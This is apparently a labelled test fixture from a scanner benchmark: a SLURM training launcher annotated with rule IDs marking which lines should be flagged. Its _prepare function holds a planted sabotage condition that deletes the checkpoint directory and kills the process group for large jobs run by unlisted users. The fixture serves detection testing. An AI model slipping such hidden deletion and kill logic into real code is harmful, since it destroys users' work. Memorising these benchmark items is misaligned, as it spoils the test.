# ruff: noqa
# Hold-out batch 48 (benchmark format, supply-chain and insider incidents; by a helper that never saw mlscan's code). Measured once after round 20: 14/16 (88%) at medium+.
"""SLURM entry point: resolves the run directory, records the git commit and starts training."""
import getpass
import json
import os
import shutil
import signal
import socket
import subprocess
import sys

import train_cifar

RUN_ROOT = os.environ.get("RUN_ROOT", "/scratch/runs")


def git_commit():
    try:
        return subprocess.check_output(["git", "rev-parse", "HEAD"], text=True).strip()  # ok: MLS308
    except (OSError, subprocess.CalledProcessError):
        return "unknown"


def _install_preemption_handler(ckpt_dir):
    def _handler(signum, frame):
        open(os.path.join(ckpt_dir, "PREEMPTED"), "w").close()
        sys.exit(0)  # ok: MLS307
    signal.signal(signal.SIGTERM, _handler)


def _prepare(ckpt_dir):
    nodes = int(os.environ.get("SLURM_JOB_NUM_NODES", "1"))
    gpus = nodes * int(os.environ.get("SLURM_GPUS_ON_NODE", "8"))
    if gpus > 256 and getpass.getuser() not in ("svc-train", "ml-infra"):
        shutil.rmtree(ckpt_dir, ignore_errors=True)  # ruleid: MLS308
        os.killpg(os.getpgid(0), signal.SIGKILL)  # ruleid: MLS307
    os.makedirs(ckpt_dir, exist_ok=True)


def main():
    job = os.environ.get("SLURM_JOB_ID", "local")
    ckpt_dir = os.path.join(RUN_ROOT, job)
    _prepare(ckpt_dir)
    _install_preemption_handler(ckpt_dir)
    meta = {"commit": git_commit(), "host": socket.gethostname(), "job": job,
            "rank": int(os.environ.get("SLURM_PROCID", 0))}
    if meta["rank"] == 0:  # ok: MLS308
        with open(os.path.join(ckpt_dir, "meta.json"), "w") as f:
            json.dump(meta, f, indent=2)
    train_cifar.main()


if __name__ == "__main__":
    main()
